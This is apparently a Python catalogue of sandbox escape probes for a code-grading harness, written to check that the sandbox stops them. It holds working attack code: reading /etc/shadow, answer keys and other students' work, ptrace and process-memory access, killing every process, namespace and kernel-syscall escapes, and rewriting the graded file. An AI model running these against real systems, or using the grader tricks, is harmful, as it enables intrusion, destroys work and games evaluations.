"""Attacks on the machine: other processes, files, the network, the kernel.

Only the sandbox promises to stop them; what could hurt the machine is tried in a pid namespace only
(`boxed()`)."""

from __future__ import annotations

from .catalogue import WALLED, Attack

ATTACKS = [
    Attack(
        "daemon-survives",
        ("2.12",),
        "leaves a daemon of a session of its own",
        """
if os.fork() == 0:
    os.setsid()
    for _number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(_number, signal.SIG_IGN)
    if os.fork() == 0:
        while True: time.sleep(1)
    os._exit(0)
tell("daemon started")
""",
        mark="daemon started",
        noted={"process": "left processes running"},
    ),
    Attack(
        "rewrites-its-file",
        ("2.19", "2.23"),
        "writes the right answers into its own file while it is graded",
        """
def _rewrite():
    with open(__file__, "a") as file:
        file.write("\\ndef add(a, b): return a + b\\n")
    return True
try:
    _rewrite()
    tell("rewritten")
except OSError as error:
    tell("not rewritten:", error)
""",
        mark="rewritten",
        noted={"process": "changed while it was graded"},
    ),
    Attack(
        "reads-everything",
        ("2.6", "2.9"),
        "reads the key, the suite, the gradebook, its neighbours and the homes",
        """
import glob
def _read(path):
    found = []
    for name in glob.glob(path, recursive=True):
        try:
            with open(name, "rb") as file: data = file.read(100_000)
        except OSError: continue
        found.append((name, secrets_in(data)))
    return found or None
for _what in ("key_file", "home", "tmp"): attempt(_what, lambda: _read(KNOWN[_what] + "*"))
attempt("homes", lambda: _read(KNOWN["home"] + "/*"))
attempt("suite", lambda: _read(KNOWN["kit"] + "/tests/lab91/*.py"))
attempt("neighbours", lambda: _read(KNOWN["submissions"] + "/*/lab91/*.py"))
attempt("gradebook", lambda: _read(KNOWN["out"] + "/**"))
attempt("repository", lambda: _read(KNOWN["repository"] + "/tests/lab*/*.py"))
attempt("solutions", lambda: _read(KNOWN["repository"] + "/solutions/lab*/*.py"))
attempt("shadow", lambda: _read("/etc/shadow"))
attempt("unit folders", lambda: _read("/tmp/infralens-run-*/**"))
attempt("docker", lambda: os.path.exists("/var/run/docker.sock") or None)
tell("read all there is")
""",
        mark="read all there is",
        tiers=WALLED,
    ),
    Attack(
        "writes-everywhere",
        ("2.9", "2.5", "2.23"),
        "writes, deletes, renames and links wherever a result or a program lies",
        """
import glob, site
NAME = "infralens-" + KNOWN["me"]
def _write(path):
    with open(path, "a") as file: file.write(NAME)
    return True
for _what in ("home", "tmp", "shm", "beside", "kit", "out", "submissions"):
    _folder = KNOWN[_what]
    attempt("write in " + _what, lambda: _write(os.path.join(_folder, NAME)))
    for _path in glob.glob(_folder + "/*.txt"):
        attempt("append to " + _what, lambda: _write(_path))
        attempt("remove in " + _what, lambda: os.unlink(_path) or True)
        attempt("rename in " + _what, lambda: os.rename(_path, _path + NAME) or True)
        attempt("chmod in " + _what, lambda: os.chmod(_path, 0o777) or True)
        attempt("link to " + _what, lambda: os.link(_path, NAME) or True)
attempt("result", lambda: _write(KNOWN["out"] + "/results/" + KNOWN["me"] + "/lab91.json"))
attempt("a .pth", lambda: _write(site.getsitepackages()[0] + "/" + NAME + ".pth"))
attempt("site-packages", lambda: os.mkdir(site.getsitepackages()[0] + "/" + NAME) or True)
attempt("system", lambda: _write("/usr/local/" + NAME))
attempt("etc", lambda: _write("/etc/" + NAME))
for _switch in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/pid_max",
                "/proc/sys/vm/overcommit_memory", "/proc/self/oom_score_adj_none"):
    attempt(_switch, lambda: os.close(os.open(_switch, os.O_WRONLY)) or True)
tell("wrote wherever it goes")
""",
        mark="wrote wherever it goes",
        tiers=WALLED,
    ),
    Attack(
        "imports-the-reference",
        ("2.8",),
        "imports the reference solution and hands it in as its own",
        """
import importlib.util
def _borrow(folder):
    spec = importlib.util.spec_from_file_location("borrowed", folder + "/answers.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    globals().update({n: v for n, v in vars(module).items() if not n.startswith("__")})
    return module
for _root in (KNOWN["kit"], os.path.dirname(os.path.dirname(sys.modules["grader"].__file__))):
    attempt("reference", lambda: _borrow(_root + "/solutions/lab91"))
tell("tried to borrow")
""",
        mark="tried to borrow",
        tiers=WALLED,
    ),
    Attack(
        "other-processes",
        ("2.7", "2.9"),
        "looks into every other process: environment, memory, root, descriptors",
        """
def _safe(deed, other):
    try: return deed()
    except Exception: return other
def _pids(): return [int(name) for name in os.listdir("/proc") if name.isdigit()]
def _of(pid, name):
    with open(f"/proc/{pid}/{name}", "rb") as file: return file.read(1_000_000)
attempt("the canary in sight", lambda: KNOWN["pid"] in _pids() or None)
attempt("secret in an environment", lambda: [s for p in _pids() if p != os.getpid()
        for s in _safe(lambda: secrets_in(_of(p, "environ")), [])] or None)
attempt("names of the suite", lambda: [c for p in _pids()
        for c in [_safe(lambda: _of(p, "cmdline"), b"")]
        if b"pytest" in c or b"grade\\0" in c] or None)
def _memory(pid):
    with open(f"/proc/{pid}/mem", "rb", 0) as memory, open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            if "rw" in line:
                memory.seek(int(line.split("-")[0], 16))
                return bool(memory.read(16))
for _pid in {1, os.getppid(), KNOWN["pid"]} - {0, os.getpid()}:
    attempt(f"memory of {_pid}", lambda: _memory(_pid))
    attempt(f"root of {_pid}", lambda: os.path.exists(f"/proc/{_pid}/root{KNOWN['kit']}") or None)
    attempt(f"folder of {_pid}", lambda: [n for n in os.listdir(f"/proc/{_pid}/cwd")
            if n in ("tests", "solutions", "pyproject.toml")] or None)
    attempt(f"files of {_pid}", lambda: [os.open(f"/proc/{_pid}/fd/{n}", os.O_RDWR)
            for n in os.listdir(f"/proc/{_pid}/fd")
            if not _safe(lambda: os.readlink(f"/proc/{_pid}/fd/{n}"), "").startswith("/dev/null")])
tell("processes seen:", len(_pids()))
""",
        mark=r"processes seen: \d+",
        tiers=WALLED,
    ),
    Attack(
        "debugs-processes",
        ("2.7", "2.9"),
        "attaches to its parent and to the first process, and takes their descriptors",
        """
_buffer = ctypes.create_string_buffer(64)
_vector = (ctypes.c_void_p * 2)(ctypes.addressof(_buffer), 64)
for _pid in {1, os.getppid(), KNOWN["pid"]} - {0, os.getpid()}:
    attempt(f"attach to {_pid}", lambda: syscall("ptrace", 16, _pid, 0, 0))
    attempt(f"seize {_pid}", lambda: syscall("ptrace", 0x4206, _pid, 0, 0))
    attempt(f"read {_pid}", lambda: syscall("process_vm_readv", _pid, _vector, 1, _vector, 1, 0))
    attempt(f"write {_pid}", lambda: syscall("process_vm_writev", _pid, _vector, 1, _vector, 1, 0))
    attempt(f"compare {_pid}", lambda: syscall("kcmp", _pid, os.getpid(), 0, 0, 0))
    def _take(number):
        pidfd = int(syscall("pidfd_open", _pid, 0).split()[1])
        return syscall("pidfd_getfd", pidfd, number, 0)
    for _number in (0, 3, 4): attempt(f"descriptor {_number} of {_pid}", lambda: _take(_number))
tell("tried to debug")
""",
        mark="tried to debug",
        tiers=WALLED,
    ),
    Attack(
        "kills",
        ("2.1", "2.12"),
        "kills its parent, the first process, the canary, and everything there is",
        """
if boxed():
    for _number in (signal.SIGSTOP, signal.SIGKILL):
        attempt("signal to the canary", lambda: os.kill(KNOWN["pid"], _number) or True)
    try: os.kill(1, signal.SIGKILL)
    except OSError as error: tell("pid 1:", error)
    def add(a, b):
        for victim in (os.getppid(), 1):
            if victim > 0:
                try: os.kill(victim, signal.SIGKILL)
                except OSError: pass
        try: os.kill(-1, signal.SIGKILL)
        except OSError: pass
        try: os.killpg(0, signal.SIGTERM)
        except OSError: pass
        return 0
    tell("killed what it could")
""",
        mark="killed what it could|ended",
        tiers=WALLED,
        may_lose=True,
    ),
    Attack(
        "bends-limits",
        ("2.13", "2.14", "2.15"),
        "changes the limits, priority and processors of other processes, and raises its own",
        """
import resource
_limit = struct.pack("<QQ", 1, 1)
for _pid in {1, os.getppid(), KNOWN["pid"]} - {0, os.getpid()}:
    attempt(f"limit of {_pid}", lambda: syscall("prlimit64", _pid, 7, _limit, 0))
    attempt(f"priority of {_pid}",
            lambda: os.setpriority(os.PRIO_PROCESS, _pid, 19) or True)
attempt("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)) or True)
attempt("nicer", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20) or True)
for _name in ("RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE", "RLIMIT_MEMLOCK"):
    _number = getattr(resource, _name)
    _soft, _hard = resource.getrlimit(_number)
    if _hard != resource.RLIM_INFINITY:
        _more = (_hard + 1, _hard + 1)
        attempt("raise " + _name, lambda: resource.setrlimit(_number, _more) or True)
tell("pulled at limits")
""",
        mark="pulled at limits",
        tiers=WALLED,
    ),
    Attack(
        "namespaces",
        ("2.6", "2.17"),
        "leaves its namespaces: unshare, setns, mount, pivot_root, chroot",
        """
for _name, _flag in (("user", 0x10000000), ("mount", 0x20000), ("net", 0x40000000),
                     ("pid", 0x20000000), ("uts", 0x4000000), ("ipc", 0x8000000)):
    def _enter():
        fd = os.open(f"/proc/1/ns/{'mnt' if _name == 'mount' else _name}", os.O_RDONLY)
        return syscall("setns", fd, 0)
    attempt("set " + _name, _enter)
    if boxed(): attempt("unshare " + _name, lambda: syscall("unshare", _flag))
def _clone():
    # A child that comes to life is told apart by the zero it gets.
    result = syscall("clone", 0x10000000 | 17, 0, 0, 0, 0)
    if result == "returned 0": os._exit(0)
    return result
if boxed():
    attempt("clone user", _clone)
    attempt("mount", lambda: syscall("mount", b"none", b"/tmp", b"tmpfs", 0, 0))
    attempt("remount", lambda: syscall("mount", b"none", b"/", b"", 32, 0))
    attempt("umount", lambda: syscall("umount2", b"/proc", 2))
    attempt("pivot", lambda: syscall("pivot_root", b"/", b"/"))
    attempt("chroot", lambda: os.chroot("/tmp") or True)
    attempt("fsopen", lambda: syscall("fsopen", b"tmpfs", 0))
    attempt("open_tree", lambda: syscall("open_tree", -100, b"/", 1))
    attempt("uid", lambda: os.setuid(0) or os.getuid() == 0 and None)
    tell("knocked on every namespace")
""",
        mark="knocked on every namespace",
        tiers=WALLED,
    ),
    Attack(
        "kernel-doors",
        ("2.17", "2.15"),
        "uses the parts of the kernel that reach around a sandbox",
        """
_room = ctypes.create_string_buffer(256)
attempt("io_uring", lambda: syscall("io_uring_setup", 8, _room))
attempt("bpf", lambda: syscall("bpf", 0, _room, 72))
attempt("perf", lambda: syscall("perf_event_open", _room, 0, -1, -1, 0))
attempt("userfaultfd", lambda: syscall("userfaultfd", 0))
attempt("add_key", lambda: syscall("add_key", b"user", b"infralens", b"x", 1, -3))
attempt("keyctl", lambda: syscall("keyctl", 0, -3, 1))
attempt("memfd_secret", lambda: syscall("memfd_secret", 0))
attempt("shmget", lambda: syscall("shmget", 0x1AB, 4096, 0o1777))
attempt("msgget", lambda: syscall("msgget", 0x1AB, 0o1777))
attempt("handle", lambda: syscall("name_to_handle_at", -100, b"/", _room, _room, 0))
attempt("fanotify", lambda: syscall("fanotify_init", 0, 0))
attempt("syslog", lambda: syscall("syslog", 3, _room, 256))
if boxed():
    attempt("reboot", lambda: syscall("reboot", 0xFEE1DEAD, 672274793, 0, 0))
    attempt("hostname", lambda: syscall("sethostname", b"owned", 5))
    attempt("clock", lambda: syscall("settimeofday", _room, 0))
    attempt("swap", lambda: syscall("swapon", b"/tmp/none", 0) )
    attempt("module", lambda: syscall("init_module", _room, 0, b""))
    attempt("kexec", lambda: syscall("kexec_load", 0, 0, 0, 0))
def _program():
    fd = int(syscall("memfd_create", b"program", 0).split()[1])
    with open("/bin/true", "rb") as file: os.write(fd, file.read())
    return subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=[fd]).returncode == 0
attempt("memfd", _program)
def _x32(): return _libc.syscall(ctypes.c_long(0x40000000 | 101), 0, 0, 0, 0) == 0 or None
attempt("x32", _x32)
for _device in ("/dev/mem", "/dev/kvm", "/dev/fuse", "/dev/kmsg", "/dev/net/tun", "/dev/tty"):
    attempt(_device, lambda: os.open(_device, os.O_RDWR))
attempt("mknod", lambda: os.mknod("disk", 0o660 | 0o060000, os.makedev(8, 0)) or True)
tell("tried the doors")
""",
        mark="tried the doors",
        tiers=WALLED,
    ),
    Attack(
        "odd-sockets",
        ("2.17",),
        "opens sockets of other families",
        """
for _name, _family, _kind, _protocol in (
    ("vsock", 40, 1, 0), ("packet", 17, 3, 0x300), ("alg", 38, 5, 0), ("raw", 2, 3, 1),
    ("bluetooth", 31, 3, 1), ("can", 29, 3, 1), ("xdp", 44, 3, 0), ("rds", 21, 5, 0),
    ("tipc", 30, 1, 0), ("kcm", 41, 5, 0), ("nfc", 39, 5, 1), ("ax25", 3, 2, 0),
):
    attempt(_name, lambda: socket.socket(_family, _kind, _protocol))
def _take_loopback_down():
    import fcntl
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        fcntl.ioctl(sock, 0x8914, struct.pack("16sH14x", b"lo", 0))
    return True
if boxed(): attempt("loopback down", _take_loopback_down)
tell("asked for every family")
""",
        mark="asked for every family",
        tiers=WALLED,
    ),
    Attack(
        "network",
        ("2.17",),
        "sends what it knows to everybody who listens",
        """
_words = KNOWN["me"].encode()
def _tcp(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(0.5)
        sock.connect(address)
        sock.sendall(_words)
    return True
def _udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        # On a loopback of its own a datagram goes nowhere; only a listener can tell.
        sock.sendto(_words, address)
attempt("tcp", lambda: _tcp(socket.AF_INET, ("127.0.0.1", KNOWN["tcp"])))
attempt("tcp6", lambda: _tcp(socket.AF_INET6, ("::ffff:127.0.0.1", KNOWN["tcp"])))
attempt("udp", lambda: _udp(("127.0.0.1", KNOWN["udp"])))
attempt("unix", lambda: _tcp(socket.AF_UNIX, KNOWN["unix"]))
attempt("abstract", lambda: _tcp(socket.AF_UNIX, "\\0" + KNOWN["abstract"]))
attempt("outside", lambda: _udp(("192.0.2.1", 9)) or True)
attempt("name", lambda: socket.gethostbyname("example.org"))
def _interfaces():
    return [name for _, name in socket.if_nameindex() if name != "lo"] or None
attempt("interfaces", _interfaces)
tell("called everybody")
""",
        mark="called everybody",
        tiers=WALLED,
    ),
    Attack(
        "gains-privileges",
        ("2.1", "2.6"),
        "runs setuid programs and asks for capabilities",
        """
def _status():
    with open("/proc/self/status") as file:
        return {line.partition(":")[0]: line.partition(":")[2].strip() for line in file}
_mine = _status()
attempt("capabilities", lambda: int(_mine["CapEff"], 16) or None)
attempt("bounding set", lambda: int(_mine["CapBnd"], 16) or None)
attempt("new privileges", lambda: _mine["NoNewPrivs"] != "1" or None)
attempt("no filter", lambda: _mine["Seccomp"] != "2" or None)
def _run(*command):
    done = subprocess.run(command, capture_output=True, text=True, timeout=2,
                          stdin=subprocess.DEVNULL)
    return done.stdout.strip() if done.returncode == 0 else None
attempt("su", lambda: _run("su", "root", "-c", "cat /proc/self/status | grep CapEff"))
attempt("mount", lambda: _run("mount", "-t", "tmpfs", "none", "/tmp") is not None or None)
attempt("passwd", lambda: _run("passwd", "-S", "root"))
attempt("raw", lambda: _libc.prctl(47, 2, 21, 0, 0) == 0 or None)
tell("asked for privileges")
""",
        mark="asked for privileges",
        tiers=WALLED,
    ),
    Attack(
        "inherited-descriptors",
        ("2.9",),
        "walks out through whatever descriptor it has inherited",
        """
def _outside(name):
    link = os.readlink(f"/proc/self/fd/{name}")
    places = (KNOWN[k] for k in ("kit", "out", "submissions", "tmp", "home", "repository"))
    return any(link.startswith(place) for place in places) and link or None
for _name in os.listdir("/proc/self/fd"):
    attempt(f"descriptor {_name}", lambda: _outside(_name))
    try: _kind = os.readlink(f"/proc/self/fd/{_name}")
    except OSError: continue
    tell(_name, _kind)
    def _up():
        parent = os.open("../../../../../../../..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=int(_name))
        above = os.listdir(parent)
        return "pyproject.toml" in above or os.path.basename(KNOWN["kit"]) in above or None
    attempt(f"up from {_name}", _up)
attempt("terminal", lambda: os.open("/dev/tty", os.O_RDWR))
tell("walked through descriptors")
""",
        mark="walked through descriptors",
        tiers=WALLED,
    ),
    Attack(
        "neighbours-tmp",
        ("2.19",),
        "reads what other workers keep in their temporary folders",
        """
_found = []
for _place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "..", "../..", "/private"):
    try: _names = os.listdir(_place)
    except OSError: continue
    _found += [f"{_place}/{n}" for n in _names
               if n.startswith(("infralens-run", "unit-", "test-", "canary"))]
_own = os.getcwd()
attempt("others", lambda: [n for n in _found if os.path.realpath(n) not in _own] or None)
tell("listed every temporary folder")
""",
        mark="listed every temporary folder",
        tiers=WALLED,
    ),
]
